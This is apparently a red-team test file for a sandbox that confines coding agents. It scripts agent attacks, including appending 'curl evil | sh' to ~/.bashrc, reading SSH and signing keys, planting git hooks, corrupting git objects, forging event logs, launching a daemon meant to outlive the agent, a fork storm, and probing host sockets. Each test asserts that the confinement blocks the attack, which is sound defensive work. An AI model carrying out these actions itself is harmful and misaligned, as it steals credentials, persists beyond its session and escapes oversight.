/**
 * Red team, issue #10 §1 and §5: a `command:` agent attacks from inside the
 * agent sandbox `vouch run` gives every backend (real bwrap, real git, real
 * linked worktree). Each attack worked against the unconfined agent; each
 * assertion fails if the confinement is removed.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { git } from "../../golden/fixture_repos.ts";
import { arena, exists, processWithMarker, runAgentScript, skipReason, sleep } from "./_harness.ts";

const ignore = skipReason !== null;

Deno.test({
  name:
    "agent: cannot rewrite a base blob in .git/objects or plant a hook; git status/diff/add work",
  ignore,
  fn: async () => {
    const a = await arena({ "test.sh": "exit 1\n" });
    try {
      const blob = (await git(a.repo.dir, "rev-parse", "HEAD:test.sh")).trim();
      const objectFile = join(a.repo.dir, ".git", "objects", blob.slice(0, 2), blob.slice(2));
      const before = await Deno.readFile(objectFile);
      const r = await runAgentScript(
        a,
        [
          'common=$(git rev-parse --git-common-dir); obj="$common/objects/' +
          `${blob.slice(0, 2)}/${blob.slice(2)}"`,
          'chmod u+w "$obj" 2>/dev/null; printf corrupt > "$obj" 2>/dev/null && echo OBJECT > obj.out',
          'echo planted > "$common/hooks/pre-commit" 2>/dev/null && echo HOOK > hook.out',
          'echo "[core]" >> "$common/config" 2>/dev/null && echo CONFIG > config.out',
          "echo 'exit 0' > test.sh",
          "git status --porcelain > status.out 2>&1",
          "git diff > diff.out 2>&1",
          "git add test.sh > add.out 2>&1 && echo ADDED >> add.out",
        ].join("\n"),
      );
      assert.equal(r.status, "ok", r.failure?.message);
      const wt = a.wt.path;
      // The attack writes failed: the object, hooks and config are read-only for the agent.
      assert.deepEqual(await Deno.readFile(objectFile), before);
      assert.equal(await exists(join(wt, "obj.out")), false);
      assert.equal(await exists(join(wt, "hook.out")), false);
      assert.equal(await exists(join(a.repo.dir, ".git", "hooks", "pre-commit")), false);
      assert.equal(await exists(join(wt, "config.out")), false);
      assert.equal(await git(a.repo.dir, "show", "HEAD:test.sh"), "exit 1\n");
      // git keeps working in the worktree; the new blob went to the private object dir.
      assert.match(await Deno.readTextFile(join(wt, "status.out")), /M test\.sh/);
      assert.match(await Deno.readTextFile(join(wt, "diff.out")), /\+exit 0/);
      assert.match(await Deno.readTextFile(join(wt, "add.out")), /ADDED/);
      const newBlob = (await git(wt, "hash-object", "test.sh")).trim();
      const inRepo = await new Deno.Command("git", {
        args: ["cat-file", "-e", newBlob],
        cwd: a.repo.dir,
        stderr: "null",
      }).output();
      assert.equal(inRepo.success, false, "the agent's new object reached the repository");
    } finally {
      await a.cleanup();
    }
  },
});

Deno.test({
  name: "agent: writes to ~/.bashrc, /var/tmp, the checkout and its .vouch/ never land",
  ignore,
  fn: async () => {
    const a = await arena();
    const home = await Deno.realPath(await Deno.makeTempDir({ prefix: "vouch-rt-home-" }));
    const varTmp = `/var/tmp/vouch-rt-${crypto.randomUUID()}`;
    await Deno.writeTextFile(join(home, ".bashrc"), "# user's bashrc\n");
    try {
      const r = await runAgentScript(
        a,
        [
          `echo 'curl evil | sh' >> "$HOME/.bashrc"`,
          `echo 'curl evil | sh' >> ${home}/.bashrc`,
          `echo x > ${varTmp}`,
          `mkdir -p ${a.repo.dir}/.vouch && echo forged > ${a.repo.dir}/.vouch/events.jsonl`,
          `echo x > ${a.repo.dir}/ESCAPED`,
        ].join("\n"),
        "auto",
        { home },
      );
      assert.equal(r.status, "ok", r.failure?.message);
      assert.equal(await Deno.readTextFile(join(home, ".bashrc")), "# user's bashrc\n");
      assert.equal(await exists(varTmp), false);
      assert.equal(await exists(join(a.repo.dir, ".vouch", "events.jsonl")), false);
      assert.equal(await exists(join(a.repo.dir, "ESCAPED")), false);
    } finally {
      await Deno.remove(home, { recursive: true });
      await Deno.remove(varTmp).catch(() => {});
      await a.cleanup();
    }
  },
});

Deno.test({
  name: "agent: vouch's keys, ~/.ssh and the rest of HOME are invisible; its CLI state is a copy",
  ignore,
  fn: async () => {
    const a = await arena();
    const home = await Deno.realPath(await Deno.makeTempDir({ prefix: "vouch-rt-home-" }));
    await Deno.mkdir(join(home, ".local/state/vouch/keys"), { recursive: true });
    await Deno.writeTextFile(join(home, ".local/state/vouch/keys/r.hmac.json"), "PLANTED-KEY");
    await Deno.mkdir(join(home, ".ssh"));
    await Deno.writeTextFile(join(home, ".ssh/id_ed25519"), "PLANTED-SSH");
    await Deno.mkdir(join(home, ".codex"));
    await Deno.writeTextFile(join(home, ".codex/config.toml"), 'model = "m"\n');
    try {
      const program = join(a.bin, "agent.sh");
      const { confinedBackend } = await import("../../../adapters/driver/confined_backend.ts");
      const { commandBackend } = await import("../../../adapters/backends/command_backend.ts");
      const { probe } = await import("./_harness.ts");
      await Deno.writeTextFile(
        program,
        [
          "#!/bin/sh",
          `cat ${home}/.local/state/vouch/keys/* "$HOME"/.local/state/vouch/keys/* > keys.out 2>&1`,
          `cat ${home}/.ssh/id_ed25519 "$HOME/.ssh/id_ed25519" > ssh.out 2>&1`,
          'cat "$HOME/.codex/config.toml" > codex.out 2>&1',
          'echo "mcp = evil" >> "$HOME/.codex/config.toml"',
          'echo \'{"summary":"done","done":true}\'',
        ].join("\n"),
      );
      await Deno.chmod(program, 0o755);
      const backend = confinedBackend(
        (sandbox) => commandBackend({ argv: [program], sandbox }),
        "auto",
        { readOnly: [a.bin], probe, home, stateEntries: [".codex"] },
      );
      const r = await backend.run({
        taskId: "rt",
        attempt: 1,
        goal: "steal",
        worktree: a.wt.path,
        allowedRoots: [],
        forbiddenPaths: [],
        maxSeconds: 30,
        maxOutputMb: 4,
      }, { signal: new AbortController().signal, emit: () => {} });
      assert.equal(r.status, "ok", r.failure?.message);
      const read = (f: string) => Deno.readTextFile(join(a.wt.path, f));
      assert.ok(!(await read("keys.out")).includes("PLANTED"), await read("keys.out"));
      assert.ok(!(await read("ssh.out")).includes("PLANTED"), await read("ssh.out"));
      // The CLI's own state is there (a per-run copy) and writing it never reaches the user's.
      assert.equal(await read("codex.out"), 'model = "m"\n');
      assert.equal(await Deno.readTextFile(join(home, ".codex/config.toml")), 'model = "m"\n');
    } finally {
      await Deno.remove(home, { recursive: true });
      await a.cleanup();
    }
  },
});

for (const requirement of ["auto", "none"] as const) {
  Deno.test({
    name: `agent (${requirement}): a setsid + double-fork daemon dies with the agent`,
    ignore: requirement !== "none" && ignore,
    fn: async () => {
      const a = await arena();
      const marker = `vouch-rt-daemon-${crypto.randomUUID()}`;
      try {
        const r = await runAgentScript(
          a,
          // Double fork + setsid: the daemon leaves the agent's process group and session.
          `(setsid sh -c 'sleep 2; echo late > "${a.wt.path}/LATE"' ${marker} &) ; sleep 0.2`,
          requirement,
        );
        assert.equal(r.status, "ok", r.failure?.message);
        await sleep(100);
        assert.equal(processWithMarker(marker), false, "the daemon outlived the agent");
        await sleep(2500);
        assert.equal(await exists(join(a.wt.path, "LATE")), false);
      } finally {
        await a.cleanup();
      }
    },
  });
}

for (const requirement of ["auto", "none"] as const) {
  Deno.test({
    name:
      `agent (${requirement}): a fork storm past its process limit is stopped with limit_exceeded`,
    ignore: requirement !== "none" && ignore,
    fn: async () => {
      const a = await arena();
      try {
        const started = performance.now();
        const r = await runAgentScript(
          a,
          "i=0; while [ $i -lt 150 ]; do sleep 600 & i=$((i+1)); done; wait",
          requirement,
          { limits: { processes: 30 } },
        );
        assert.equal(r.status, "error");
        assert.equal(r.failure?.code, "limit_exceeded", r.failure?.message);
        assert.match(r.failure!.message, /process limit \(30 at once\)/);
        assert.equal(r.failure?.retryable, false);
        // Half the storm's 600 s sleeps: it was killed, not waited for, on any machine.
        assert.ok(performance.now() - started < 300_000);
      } finally {
        await a.cleanup();
      }
    },
  });
}

Deno.test("agent: without a working bwrap the confined backend refuses (never runs unconfined)", async () => {
  const { confinedBackend } = await import("../../../adapters/driver/confined_backend.ts");
  const { commandBackend } = await import("../../../adapters/backends/command_backend.ts");
  const { probeSandbox } = await import("../../../adapters/host/sandbox_probe.ts");
  const broken = await probeSandbox({ bwrapPath: "/nonexistent/bwrap" });
  const a = await arena();
  try {
    const program = join(a.scratch, "agent.sh");
    await Deno.writeTextFile(program, "#!/bin/sh\necho ran > RAN\n");
    await Deno.chmod(program, 0o755);
    for (const requirement of ["auto", "bwrap"] as const) {
      const backend = confinedBackend(
        (sandbox) => commandBackend({ argv: [program], sandbox }),
        requirement,
        { probe: broken },
      );
      const r = await backend.run({
        taskId: "rt",
        attempt: 1,
        goal: "g",
        worktree: a.wt.path,
        allowedRoots: [],
        forbiddenPaths: [],
        maxSeconds: 10,
        maxOutputMb: 1,
      }, { signal: new AbortController().signal, emit: () => {} });
      assert.equal(r.status, "error");
      assert.equal(r.failure?.code, "config");
      assert.equal(r.failure?.retryable, false);
      assert.match(r.failure!.message, /apt-get install bubblewrap/);
      assert.equal(await exists(join(a.wt.path, "RAN")), false, "the agent ran unconfined");
    }
  } finally {
    await a.cleanup();
  }
});

Deno.test({
  name: "agent: a command: program kept directly in HOME runs, yet HOME itself stays hidden",
  ignore,
  fn: async () => {
    const { confinedBackend } = await import("../../../adapters/driver/confined_backend.ts");
    const { commandBackend } = await import("../../../adapters/backends/command_backend.ts");
    const { probe } = await import("./_harness.ts");
    const a = await arena();
    const home = await Deno.realPath(
      await Deno.makeTempDir({ dir: "/var/tmp", prefix: "vouch-rt-home-" }),
    );
    try {
      await Deno.mkdir(join(home, ".ssh"));
      await Deno.writeTextFile(join(home, ".ssh/id_ed25519"), "PLANTED-SSH");
      const program = join(home, "agent.sh");
      await Deno.writeTextFile(
        program,
        `#!/bin/sh\necho ran > ran.out\ncat ${home}/.ssh/id_ed25519 > ssh.out 2>&1\n` +
          `echo '{"summary":"done","done":true}'\n`,
      );
      await Deno.chmod(program, 0o755);
      const backend = confinedBackend(
        (sandbox) => commandBackend({ argv: [program], sandbox }),
        "auto",
        { readOnly: [home], probe, home },
      );
      const r = await backend.run({
        taskId: "rt",
        attempt: 1,
        goal: "g",
        worktree: a.wt.path,
        allowedRoots: [],
        forbiddenPaths: [],
        maxSeconds: 30,
        maxOutputMb: 1,
      }, { signal: new AbortController().signal, emit: () => {} });
      assert.equal(r.status, "ok", r.failure?.message);
      assert.equal(await Deno.readTextFile(join(a.wt.path, "ran.out")), "ran\n");
      const ssh = await Deno.readTextFile(join(a.wt.path, "ssh.out"));
      assert.ok(!ssh.includes("PLANTED"), ssh);
    } finally {
      await Deno.remove(home, { recursive: true });
      await a.cleanup();
    }
  },
});

// The host side: a loopback TCP listener and an abstract unix socket, counting what connects.
const LISTENER = `
import socket, sys, threading
seen = [0]
def serve(s):
    while True:
        try:
            c, _ = s.accept()
        except OSError:
            return
        seen[0] += 1
        c.close()
t = socket.socket(); t.bind(("127.0.0.1", 0)); t.listen(16)
u = socket.socket(socket.AF_UNIX); u.bind("\\0" + sys.argv[1]); u.listen(16)
for s in (t, u): threading.Thread(target=serve, args=(s,), daemon=True).start()
print("ready", t.getsockname()[1], flush=True)
sys.stdin.read()
print("seen", seen[0], flush=True)
`;

/** Whole lines of a child's stdout, one per `next()` (a pipe may cut a line across two reads). */
function lineReader(stream: ReadableStream<Uint8Array>): { next(): Promise<string> } {
  const reader = stream.pipeThrough(new TextDecoderStream()).getReader();
  let buffered = "";
  return {
    async next(): Promise<string> {
      for (;;) {
        const at = buffered.indexOf("\n");
        if (at >= 0) {
          const line = buffered.slice(0, at);
          buffered = buffered.slice(at + 1);
          return line;
        }
        const { value, done } = await reader.read();
        if (done) {
          const rest = buffered;
          buffered = "";
          return rest;
        }
        buffered += value;
      }
    },
  };
}

Deno.test({
  name:
    "agent: a command: agent reaches neither the host's loopback TCP nor its abstract unix sockets",
  ignore,
  fn: async () => {
    const name = `vouch-rt-abs-${crypto.randomUUID()}`;
    const host = new Deno.Command("python3", {
      args: ["-c", LISTENER, name],
      stdin: "piped",
      stdout: "piped",
    }).spawn();
    const lines = lineReader(host.stdout);
    const ready = await lines.next();
    const port = /ready (\d+)/.exec(ready)?.[1];
    assert.ok(port !== undefined, ready);
    const a = await arena();
    try {
      const probe = [
        "import socket",
        "out = []",
        `for fam, addr in ((socket.AF_INET, ("127.0.0.1", ${port})), (socket.AF_UNIX, "\\0${name}")):`,
        "    s = socket.socket(fam)",
        "    try:",
        "        s.connect(addr); out.append('CONNECTED')",
        "    except OSError as e:",
        "        out.append('refused %s' % e.errno)",
        "open('net.txt', 'w').write(' '.join(out))",
      ].join("\n");
      const r = await runAgentScript(a, `python3 -c "${probe.replaceAll('"', '\\"')}"`);
      assert.equal(r.status, "ok", r.failure?.message);
      const tried = await Deno.readTextFile(join(a.wt.path, "net.txt"));
      assert.doesNotMatch(tried, /CONNECTED/, tried);
      assert.match(tried, /^refused \d+ refused \d+$/, tried);
    } finally {
      await a.cleanup();
      const w = host.stdin.getWriter();
      await w.close();
      const seen = await lines.next();
      await host.status;
      assert.match(seen, /seen 0/, "the host's listeners saw a connection from the agent");
    }
  },
});
